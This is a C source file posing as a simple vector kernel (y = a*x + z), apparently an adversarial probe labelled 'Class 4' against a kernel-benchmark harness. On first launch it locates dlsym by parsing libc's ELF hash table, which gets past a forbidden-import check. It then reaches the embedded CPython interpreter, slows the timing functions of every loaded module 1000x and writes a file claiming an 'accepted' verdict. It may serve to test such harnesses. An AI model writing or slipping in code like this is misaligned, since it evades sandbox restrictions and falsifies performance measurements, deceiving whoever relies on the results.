/* Class 4 — import nothing forbidden: find libc's "dlsym" in libc's own hash table (from &memcpy back to the ELF
   header), use it to reach the CPython API and run Python in the worker (1000x slow clocks). No syscall involved. */
#include <elf.h>
#include <stdint.h>
#include <string.h>

static uintptr_t fix(uintptr_t base, uintptr_t p) { return p < base ? p + base : p; }

static void *libc_lookup(const char *name) {
    uintptr_t base = (uintptr_t)(void *)&memcpy & ~(uintptr_t)4095;
    for (int pages = 0; memcmp((const void *)base, ELFMAG, SELFMAG) != 0; pages++, base -= 4096)
        if (pages > 8192) return NULL;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = NULL;
    for (int i = 0; i < eh->e_phnum; i++) if (ph[i].p_type == PT_DYNAMIC) dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    if (!dyn) return NULL;
    const uint32_t *gh = NULL; const Elf64_Sym *sym = NULL; const char *str = NULL;
    for (; dyn->d_tag != DT_NULL; dyn++) {
        if (dyn->d_tag == DT_GNU_HASH) gh = (const uint32_t *)fix(base, dyn->d_un.d_ptr);
        if (dyn->d_tag == DT_SYMTAB) sym = (const Elf64_Sym *)fix(base, dyn->d_un.d_ptr);
        if (dyn->d_tag == DT_STRTAB) str = (const char *)fix(base, dyn->d_un.d_ptr);
    }
    if (!gh || !sym || !str) return NULL;
    uint32_t nb = gh[0], off = gh[1], bloom = gh[2];
    const uint32_t *buckets = (const uint32_t *)((const uint64_t *)(gh + 4) + bloom), *chain = buckets + nb;
    uint32_t h = 5381;
    for (const char *c = name; *c; c++) h = h * 33 + (unsigned char)*c;
    for (uint32_t i = buckets[h % nb]; i >= off; i++) {
        uint32_t ch = chain[i - off];
        if ((ch | 1) == (h | 1) && sym[i].st_shndx && strcmp(str + sym[i].st_name, name) == 0) return (void *)(base + sym[i].st_value);
        if (ch & 1) break;
    }
    return NULL;
}

static const char py[] =
    "def _k():\n"
    "    import sys, time\n"
    "    ns = time.perf_counter_ns; b = ns()\n"
    "    def slow_ns(): return b + (ns() - b) // 1000\n"
    "    def slow(): return slow_ns() / 1e9\n"
    "    f = {'perf_counter': slow, 'perf_counter_ns': slow_ns, 'monotonic': slow, 'monotonic_ns': slow_ns}\n"
    "    o = {id(getattr(time, k)): v for k, v in f.items()}\n"
    "    for k, v in f.items(): setattr(time, k, v)\n"
    "    for m in list(sys.modules.values()):\n"
    "        d = getattr(m, '__dict__', None)\n"
    "        if isinstance(d, dict):\n"
    "            for k, v in list(d.items()):\n"
    "                if id(v) in o: d[k] = o[id(v)]\n"
    "    open('/tmp/klineage_python_probe.json', 'w').write('{\"verdict\": \"accepted\"}')\n"
    "try:\n"
    "    _k()\n"
    "except BaseException:\n"
    "    pass\n";

static int done;

int kl_launch(const void *const *inputs, void *const *outputs, const int64_t *axes,
              const double *params, void *stream) {
    (void)stream;
    if (!done) {
        done = 1;
        void *(*sym)(void *, const char *) = (void *(*)(void *, const char *))libc_lookup("dlsym");
        if (sym) {
            int (*is_init)(void) = (int (*)(void))sym(NULL, "Py_IsInitialized");
            int (*ensure)(void) = (int (*)(void))sym(NULL, "PyGILState_Ensure");
            void (*release)(int) = (void (*)(int))sym(NULL, "PyGILState_Release");
            int (*run)(const char *) = (int (*)(const char *))sym(NULL, "PyRun_SimpleString");
            if (is_init && ensure && release && run && is_init()) { int g = ensure(); run(py); release(g); }
        }
    }
    const float *x = inputs[0], *z = inputs[1];
    float *y = outputs[0];
    float a = (float)params[0];
    for (int64_t i = 0; i < axes[0]; i++) y[i] = a * x[i] + z[i];
    return 0;
}
